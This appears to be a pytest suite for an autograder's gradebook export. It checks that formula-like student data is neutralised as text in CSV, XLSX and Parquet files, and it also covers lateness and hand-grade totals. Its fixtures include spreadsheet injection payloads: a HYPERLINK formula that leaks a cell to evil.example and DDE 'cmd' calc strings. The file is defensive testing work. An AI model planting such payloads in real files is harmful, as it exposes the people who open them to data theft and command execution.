"""The gradebook files are safe to open: a student's text is never a formula in a spreadsheet."""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest

from autograder.assignment import load_assignment
from autograder.grading import invalid_results
from autograder.report.gradebook import write_gradebook, write_regrade_diff

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click for your grade")'
#: one per character a spreadsheet starts a formula with
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            " =1+1"]


@pytest.fixture(scope="module")
def assignment():
    return load_assignment("ift6135-h20-hw1")


def _class(assignment):
    people = [{"name": text, "sid": "-20260001", "email": "@attacker.example"} for text in FORMULAS]
    results = invalid_results(assignment, "=1+1", "-reason")
    return [replace(results, metadata={"submitters": people, "created_at": "=NOW()"})]


def test_formula_in_a_students_name_is_text_in_grades_csv(tmp_path, assignment):
    write_gradebook(_class(assignment), assignment, tmp_path / "grades.csv")
    rows = list(csv.reader((tmp_path / "grades.csv").open(encoding="utf-8", newline="")))
    header, row = rows
    cells = dict(zip(header, row))
    assert cells["names"] == "'" + "; ".join(FORMULAS)
    assert cells["submission_id"] == "'=1+1" and cells["student_ids"].startswith("'-2026")
    assert cells["emails"].startswith("'@") and cells["submitted_at"] == "'=NOW()"
    assert not any(cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert cells["auto_total"] == "0.0" and cells["q5"] == "0.0", "numbers stay numbers"


def test_formula_in_a_students_name_is_a_string_cell_in_the_xlsx(tmp_path, assignment):
    from openpyxl import load_workbook

    write_gradebook(_class(assignment), assignment, tmp_path / "grades.csv", formats=("xlsx",))
    sheet = load_workbook(tmp_path / "grades.xlsx").active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line), "no cell is a formula"
    assert row["names"].value.startswith("'=HYPERLINK(") and row["names"].data_type == "s"
    assert row["submission_id"].value == "'=1+1" and row["emails"].data_type == "s"
    assert row["auto_total"].data_type == "n" and row["auto_total"].value == 0


def test_formula_in_a_students_name_is_neutralised_in_the_parquet(tmp_path, assignment):
    import pandas as pd

    write_gradebook(_class(assignment), assignment, tmp_path / "grades.csv", formats=("parquet",))
    table = pd.read_parquet(tmp_path / "grades.parquet")
    assert table["names"][0].startswith("'=HYPERLINK(") and table["auto_total"][0] == 0.0


def test_control_character_in_a_name_does_not_break_the_xlsx(tmp_path, assignment):
    from openpyxl import load_workbook

    results = _class(assignment)
    results = [replace(results[0], metadata={"submitters": [{"name": "Ada\x01\x1b[2J Lovelace", "sid": "1"}]})]
    write_gradebook(results, assignment, tmp_path / "grades.csv", formats=("xlsx",))
    sheet = load_workbook(tmp_path / "grades.xlsx").active
    assert sheet["B2"].value == "Ada[2J Lovelace"


def test_formula_in_a_name_is_text_in_regrade_diff_and_losses_stay_negative_numbers(tmp_path, assignment):
    results = _class(assignment)
    path = write_regrade_diff([("=1+1", "q5", 2.0, 0.5)], results, tmp_path / "regrade_diff.csv")
    header, row = list(csv.reader(path.open(encoding="utf-8", newline="")))
    cells = dict(zip(header, row))
    assert cells["submission_id"] == "'=1+1" and cells["names"].startswith("'=HYPERLINK(")
    assert cells["change"] == "-1.5" and cells["old"] == "2.0"


def test_formula_behind_a_control_character_is_still_text_in_the_xlsx(tmp_path, assignment):
    from openpyxl import load_workbook

    results = _class(assignment)
    results = [replace(results[0], metadata={"submitters": [{"name": "\x01=1+1", "sid": "1"}]})]
    write_gradebook(results, assignment, tmp_path / "grades.csv", formats=("xlsx",))
    assert load_workbook(tmp_path / "grades.xlsx").active["B2"].value == "'=1+1"


def _hand_class(tmp_path):
    from autograder.assignment_model import Assignment, Question
    from autograder.results import CheckResult, QuestionScore, Results

    assignment = Assignment(id="hw-hand", title="HW", language="en", root=tmp_path, starter="hw.py",
                            questions=(Question("q1", "Calcul", 6.0, "auto"), Question("q2", "Preuve", 2.0, "hand"),
                                       Question("q3", "Essai", 2.0, "hand")),
                            checks=(), helpers=None, solution_dir=None)

    def result(submission, score, metadata):
        check = CheckResult(id="q1-c", question="q1", name="c", number="1.1", score=score, max_score=6.0,
                            hidden=False, visibility="visible", passed=score == 6.0)
        return Results(assignment_id="hw-hand", assignment_title="HW", language="en", submission=submission,
                       checks=(check,), questions=(QuestionScore("q1", "Calcul", 6.0, "auto", score),
                                                   QuestionScore("q2", "Preuve", 2.0, "hand", None),
                                                   QuestionScore("q3", "Essai", 2.0, "hand", None)),
                       status="graded", metadata=metadata)

    people = [{"name": "Ada", "sid": "1", "email": "ada@example.org"}]
    return assignment, [result("9000", 6.0, {"submitters": people, "created_at": "2026-02-04T22:10:00-05:00"}),
                        result("alice-2", 3.0, {"file": "late/alice.py"})]


def _rows(path):
    return list(csv.reader(path.open(encoding="utf-8", newline="")))


def test_without_a_due_date_lateness_is_blank_not_on_time(tmp_path):
    assignment, klass = _hand_class(tmp_path)
    header, *rows = _rows(write_gradebook(klass, assignment, tmp_path / "grades.csv")[0])
    cells = [dict(zip(header, row)) for row in rows]
    assert [(c["hours_late"], c["late"]) for c in cells] == [("", ""), ("", "")], "unknown, not 'False, 0.0'"
    late = [replace(klass[0], late=True, metadata={**klass[0].metadata, "hours_late": 2.5}),
            replace(klass[1], metadata={**klass[1].metadata, "hours_late": 0.0})]
    header, *rows = _rows(write_gradebook(late, assignment, tmp_path / "grades.csv")[0])
    assert [(r[header.index("hours_late")], r[header.index("late")]) for r in rows] == [("2.5", "True"),
                                                                                        ("0.0", "False")]


def test_hand_grades_fill_the_hand_columns_and_the_totals_columns_stay_where_they_were(tmp_path):
    assignment, klass = _hand_class(tmp_path)
    header, *rows = _rows(write_gradebook(klass, assignment, tmp_path / "grades.csv",
                                          hand={"9000": {"q2": 1.5, "q3": 2.0}, "alice-2": {"q2": 1.0}})[0])
    assert header == ["submission_id", "names", "student_ids", "emails", "submitted_at", "hours_late", "late",
                      "file", "q1", "q2 (hand)", "q3 (hand)", "hand_total", "total",
                      "auto_total", "auto_max", "hand_max", "status"]
    full, partial = (dict(zip(header, row)) for row in rows)
    assert (full["q2 (hand)"], full["q3 (hand)"], full["hand_total"], full["total"]) == ("1.5", "2.0", "3.5", "9.5")
    # a missing hand grade leaves the totals blank, never 0
    assert (partial["q2 (hand)"], partial["q3 (hand)"], partial["hand_total"], partial["total"]) == ("1.0", "", "", "")
    assert partial["file"] == "late/alice.py" and partial["auto_total"] == "3.0"
    header, *rows = _rows(write_gradebook(klass, assignment, tmp_path / "grades.csv")[0])
    assert [row[header.index("total")] for row in rows] == ["", ""], "no hand grades given: the total is unknown"
